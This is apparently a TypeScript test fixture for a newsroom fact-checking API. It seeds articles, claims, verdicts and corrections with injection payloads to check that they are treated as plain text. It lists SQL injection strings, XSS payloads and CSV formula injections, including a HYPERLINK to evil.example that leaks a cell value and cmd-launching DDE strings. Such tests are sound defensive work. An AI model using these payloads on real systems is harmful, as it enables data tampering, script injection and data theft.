import { type Actor } from '@marginalia/domain';
import { type RunningAdminApi, users } from '../../support/admin-api';
import { Callers, otherStandardsEditor, settled, verdictBody } from './newsroom-fixture';

/** How the spec starts the admin API, given the environment this file chooses. */
type StartAdminApi = (env: Record<string, string>) => Promise<RunningAdminApi>;

/** Payloads that would change a query if text were ever pasted into SQL. */
export const SQL = [
  `'; DROP TABLE events;--`,
  `" OR 1=1 --`,
  `1' OR '1'='1`,
  `Robert'); DROP TABLE claims;--`,
  `%' OR 1=1 --`,
  `'; UPDATE events SET data = '{}';--`,
];
/** Payloads that would run or inject markup if text were ever written into HTML unescaped. */
export const HTML = [
  `<script>alert(1)</script>`,
  `"><img src=x onerror=alert(1)>`,
  `<svg/onload=alert(1)>`,
  `</mark></div><script>alert(document.cookie)</script>`,
  `' onmouseover='alert(1)' x='`,
  `<a href="javascript:alert(1)">点我</a>`,
  `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`,
  `<style>body{display:none}</style><!--`,
  `&lt;b&gt;已转义&lt;/b&gt; &amp;`,
];
/** Payloads that a spreadsheet would run as formulas (OWASP CSV injection). */
export const CSV = [
  `=HYPERLINK("https://evil.example/?x="&A1,"点击")`,
  `+cmd|' /C calc'!A0`,
  `-1+1`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `=1+1,"逗号",\n换行`,
];
/** A capture turns CR into LF, so this one goes into a reason only. */
export const REIMPORT_REASON = `\r=1+1 回车开头`;
/** What can stand in an article's text (a capture changes CR, so none of these has one). */
export const PAYLOADS = [...SQL, ...HTML, ...CSV];
export const FORMULA_START = /^[=+\-@\t\r]/;

/** An editor whose user id and name are payloads too: the actor column of the exports. */
export const formulaEditor: Actor = {
  sub: `=HYPERLINK("https://evil.example","editor")`,
  name: `<img src=x onerror=alert("name")>`,
  roles: ['editor'],
};

/** One line per payload, after a line number, so that each can be found by its position. */
export function articleText(): {
  content: string;
  lines: Array<{ payload: string; start: number; end: number }>;
} {
  let content = '说明：以下每一行都是恶意输入的样本，系统必须把它们当作普通文字。\n';
  const lines = PAYLOADS.map((payload, index) => {
    content += `第${index + 1}行：`;
    const start = [...content].length;
    content += payload;
    const end = [...content].length;
    content += '\n';
    return { payload, start, end };
  });
  return { content, lines };
}

/**
 * A newsroom whose every free-text field holds a payload: an article, a claim per payload, a
 * verdict, corrections rejected, withdrawn and published, and a re-import; made before the
 * tests of the describe that calls this.
 *
 * `start` starts the admin API: the spec passes `startAdminApi`, so that it names the app it
 * starts (the suites on EventStoreDB select their files by that: jest.eventstoredb-e2e.config.js).
 */
export function newsroomOfPayloads(start: StartAdminApi) {
  let api: RunningAdminApi;
  let callers: Callers;
  let articleId: string;
  let claimIds: string[];
  let publishedCorrectionId: string;
  const { content, lines } = articleText();

  beforeAll(async () => {
    api = await start({ RATE_LIMIT_PER_MINUTE: '1000000' });
    callers = await Callers.of(api, [otherStandardsEditor, formulaEditor]);
    const article = await callers.ok<{ id: string }>(formulaEditor.sub, 'POST', '/v1/articles', {
      title: `${HTML[0]}${SQL[0]}${CSV[0]}`,
      language: 'zh-Hans',
      format: 'text',
      content,
      source: {
        url: `https://news.example/2024/injection?q=%27%3B%20DROP%20TABLE%20events`,
        publisher: CSV[1],
        publishedAt: '2024-03-08T10:29:15+08:00',
      },
      externalId: SQL[1],
    });
    articleId = article.id;
    // A claim on each payload's line, described by the payload in every text field.
    claimIds = [];
    for (const [index, line] of lines.entries()) {
      const claim = await callers.ok<{ id: string }>(
        'fact_checker',
        'POST',
        `/v1/articles/${articleId}/claims`,
        {
          selector: { start: line.start, end: line.end },
          statement: line.payload,
          claimant: PAYLOADS[(index + 1) % PAYLOADS.length],
          topics: [line.payload, `话题${index}`],
        },
      );
      claimIds.push(claim.id);
    }
    // The first claim gets a published verdict whose every text is a payload.
    const [first, second, third] = claimIds as [string, string, string];
    await callers.ok('editor', 'POST', `/v1/claims/${first}/assignment`, {
      assignee: users.fact_checker.sub,
    });
    const verdict = {
      ...verdictBody,
      summary: HTML[1],
      rationale: PAYLOADS.join('\n'),
      sources: [{ ...verdictBody.sources[0]!, title: HTML[0], quote: CSV[0] }],
    };
    await callers.ok('fact_checker', 'POST', `/v1/claims/${first}/verdict`, verdict);
    await callers.ok('fact_checker', 'POST', `/v1/claims/${first}/verdict/submit`);
    await callers.ok('standards_editor', 'POST', `/v1/claims/${first}/verdict/reject`, {
      reason: CSV[1],
    });
    await callers.ok('fact_checker', 'POST', `/v1/claims/${first}/verdict/submit`);
    await callers.ok('standards_editor', 'POST', `/v1/claims/${first}/verdict/approve`);
    await callers.ok('standards_editor', 'POST', `/v1/claims/${first}/verdict/retract`, {
      reason: CSV[2],
    });
    await callers.ok('fact_checker', 'POST', `/v1/claims/${first}/verdict`, verdict);
    await callers.ok('fact_checker', 'POST', `/v1/claims/${first}/verdict/submit`);
    await callers.ok(otherStandardsEditor.sub, 'POST', `/v1/claims/${first}/verdict/approve`);
    await callers.ok(formulaEditor.sub, 'POST', `/v1/claims/${second}/withdrawal`, {
      reason: CSV[0],
    });
    // Corrections: one rejected, one withdrawn (both with payload reasons), one published
    // whose replacement and notice are markup.
    const proposal = (index: number, replacement: string, notice: string) => ({
      selector: { start: lines[index]!.start, end: lines[index]!.end },
      kind: 'correction',
      replacement,
      notice,
      claimId: third,
    });
    const rejected = await callers.ok<{ id: string }>(
      'editor',
      'POST',
      `/v1/articles/${articleId}/corrections`,
      proposal(0, SQL[2]!, CSV[3]!),
    );
    await callers.ok('standards_editor', 'POST', `/v1/corrections/${rejected.id}/reject`, {
      reason: CSV[3],
    });
    const withdrawn = await callers.ok<{ id: string }>(
      'editor',
      'POST',
      `/v1/articles/${articleId}/corrections`,
      proposal(1, CSV[4]!, SQL[3]!),
    );
    await callers.ok(formulaEditor.sub, 'POST', `/v1/corrections/${withdrawn.id}/withdrawal`, {
      reason: CSV[5],
    });
    const published = await callers.ok<{ id: string }>(
      'editor',
      'POST',
      `/v1/articles/${articleId}/corrections`,
      proposal(SQL.length, HTML[3]!, `${HTML[4]}${CSV[0]}`),
    );
    publishedCorrectionId = published.id;
    await callers.ok('standards_editor', 'POST', `/v1/corrections/${published.id}/approve`);
    await settled(api);
    // A re-import whose reason starts with a carriage return, the last formula start of SPEC §8.
    const current = await callers.ok<{ text: string }>(
      'editor',
      'GET',
      `/v1/articles/${articleId}/text`,
    );
    await callers.ok('editor', 'POST', `/v1/articles/${articleId}/revisions`, {
      content: `${current.text}附记：来源页面已更新。\n`,
      reason: REIMPORT_REASON,
    });
    await settled(api);
  });

  afterAll(async () => {
    await api?.stop();
  });

  return {
    get api(): RunningAdminApi {
      return api;
    },
    get callers(): Callers {
      return callers;
    },
    get articleId(): string {
      return articleId;
    },
    get claimIds(): string[] {
      return claimIds;
    },
    get publishedCorrectionId(): string {
      return publishedCorrectionId;
    },
  };
}
